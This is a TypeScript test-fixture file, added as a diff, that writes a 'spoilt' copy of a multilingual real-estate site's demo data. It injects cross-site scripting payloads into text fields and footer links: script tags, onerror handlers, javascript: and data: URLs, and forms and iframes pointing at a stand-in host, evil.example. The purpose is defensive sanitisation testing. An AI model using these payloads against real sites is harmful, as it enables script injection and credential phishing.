@@ -1,0 +1,134 @@
+// The demo data as an enemy, a careless editor and a broken disk would leave it.
+import { cp, mkdir, readdir, readFile, writeFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import { root } from '../scripts/root.ts'
+
+/** What no page may run. Whatever runs leaves its mark on the window. */
+const RUN = 'window.ran=1'
+/** For fields that are plain words. */
+const WORDS = [
+  `"'><img src=x onerror=${RUN}>`,
+  `</script><script>${RUN}</script>`,
+  `</title></style></textarea><svg onload=${RUN}>`,
+  `&lt;script&gt;${RUN}&lt;/script&gt; \${${RUN}} {${RUN}}`,
+  '‮ ​\u0000 ]]> <!-- ',
+]
+/** For rich text. */
+const RICH = [
+  `<script>${RUN}</script><script src="https://evil.example/x.js"></script>`,
+  `<img src=x onerror="${RUN}"><svg><script>${RUN}</script><a xlink:href="javascript:${RUN}">x</a></svg>`,
+  `<p style="position:fixed;inset:0;z-index:99999" onclick="${RUN}" class="modal" id="content">over the page</p>`,
+  `<a href="javascript:${RUN}">a</a><a href=" jav&#x09;ascript:${RUN}">b</a><a href="data:text/html,<script>${RUN}</script>">c</a>`,
+  '<a href="//evil.example" target="_blank" onmouseover="window.ran=1">d</a>',
+  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x"><video autoplay src=x>',
+  '<form action="https://evil.example"><input name=password autofocus></form><base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example"><link rel=stylesheet href="https://evil.example">',
+  '<style>*{display:none}</style><math><mtext><style><img src=x onerror=window.ran=1></style></mtext></math>',
+  `<figure data-image='"><img src=x onerror=${RUN}>'><figcaption onclick="${RUN}">e</figcaption></figure>`,
+  '<!--><img src=x onerror=window.ran=1>--><p>an end that is missing <strong><em><a href="/contact">f',
+]
+/** Addresses of the footer. */
+const LINKS: Record<string, string> = {
+  facebook: `javascript:${RUN}`,
+  instagram: `\tJAVASCRIPT:${RUN}`,
+  youtube: `data:text/html,<script>${RUN}</script>`,
+  linkedin: `https://x.example/" onmouseover="${RUN}`,
+  privacy: `vbscript:${RUN}`,
+  email1: `a@x.example" onclick="${RUN}`,
+  phone: `+995 32 2" onclick="${RUN}`,
+}
+const LANGUAGES = ['ka', 'en', 'ru']
+/** A picture of 64 by 40 points and 74 bytes: hundreds of them are made in no time. */
+const SMALL =
+  'UklGRkIAAABXRUJQVlA4IDYAAABwAwCdASpAACgAPxGIvlksKSajoqgBgCIJaQDUFAd7tTT4QQAA/t7WNaRCAUC38R0kdwAAAAA='
+
+type Json = null | boolean | number | string | Json[] | { [key: string]: Json }
+interface Entry {
+  _id: string
+  slug: string
+  values: Record<string, Json>
+}
+
+let count = 0
+const next = (payloads: readonly string[]) => payloads[count++ % payloads.length] as string
+
+/** Everything that an editor writes in a language, spoilt; ids, states and numbers as they were. */
+function spoil(value: Json, isText: boolean): Json {
+  if (typeof value === 'string') {
+    if (!isText) return value
+    return value.includes('<p>') ? value + next(RICH) : `${value} ${next(WORDS)}`
+  }
+  if (Array.isArray(value)) return value.map((one) => spoil(one, isText))
+  if (value === null || typeof value !== 'object') return value
+  return Object.fromEntries(
+    Object.entries(value).map(([key, one]) => {
+      const isName = ['key', 'state', 'image', 'file', 'month', 'from', 'to'].includes(key)
+      return [key, spoil(one, (isText && !isName) || LANGUAGES.includes(key))]
+    }),
+  )
+}
+
+const long = (value: Json): Json =>
+  Object.fromEntries(
+    Object.entries(value as Record<string, string>).map(([key, text]) => [key, `${text} `.repeat(10).trim()]),
+  )
+
+/** A complex of which nothing is known yet but its name. */
+const BARE: Entry = {
+  _id: 'project-bare-field',
+  slug: 'bare-field',
+  values: {
+    name: { ka: 'ცარიელი მინდორი', en: 'Bare Field', ru: 'Чистое поле' },
+    district: { ka: 'ლილო', en: 'Lilo', ru: 'Лило' },
+    address: { ka: '–', en: '–', ru: '–' },
+    coordinates: { lat: 41.7, lng: 45 },
+    status: 'current',
+    completion: '2029-12-15T00:00:00.000Z',
+    summary: { ka: '–', en: '–', ru: '–' },
+    lead: { ka: '–', en: '–', ru: '–' },
+    description: { ka: '<p>–</p>', en: '<p>–</p>', ru: '<p>–</p>' },
+    features: { ka: ['–'], en: ['–'], ru: ['–'] },
+    hero: 'image-hill-house-hero',
+    cover: 'image-hill-house-hero',
+  },
+}
+
+/** The news whose title is ten times as long. */
+const LONG_NEWS = 'terrace-park-b-roof'
+
+/** Writes the spoilt seed into a folder. */
+export async function writeBadSeed(folder: string): Promise<string> {
+  const seed = join(folder, 'bad')
+  const project = join(seed, 'projects/terasa')
+  await mkdir(seed, { recursive: true })
+  await cp(join(root, 'web/demo'), seed, { recursive: true })
+  const rewrite = async <T>(name: string, change: (list: T[]) => T[]) => {
+    const file = join(project, name)
+    await writeFile(file, JSON.stringify(change(JSON.parse(await readFile(file, 'utf8')))))
+  }
+  for (const name of await readdir(join(project, 'content'))) {
+    await rewrite<Entry>(join('content', name), (entries) =>
+      entries.map((entry) => {
+        const values = spoil(entry.values, false) as Entry['values']
+        if (name === 'footer.json') Object.assign(values, LINKS)
+        if (entry.slug === LONG_NEWS) Object.assign(values, { title: long(entry.values.title ?? {}) })
+        return { ...entry, values }
+      }),
+    )
+  }
+  await rewrite<Entry>('content/project.json', (entries) => [...entries, BARE])
+  for (const name of await readdir(join(project, 'items'))) {
+    await rewrite<Record<string, Json>>(join('items', name), (items) =>
+      items.map((item) => ({ ...item, name: spoil(item.name ?? null, false) })),
+    )
+  }
+  await rewrite<Record<string, Json>>('images.json', (images) =>
+    images.map((image) => ({ ...image, alt: spoil(image.alt ?? null, false), width: 64, height: 40 })),
+  )
+  const media = join(project, 'media')
+  for (const name of await readdir(media)) {
+    if (!name.endsWith('.webp')) continue
+    await writeFile(join(media, name), Buffer.from(SMALL, 'base64'))
+  }
+  return seed
+}
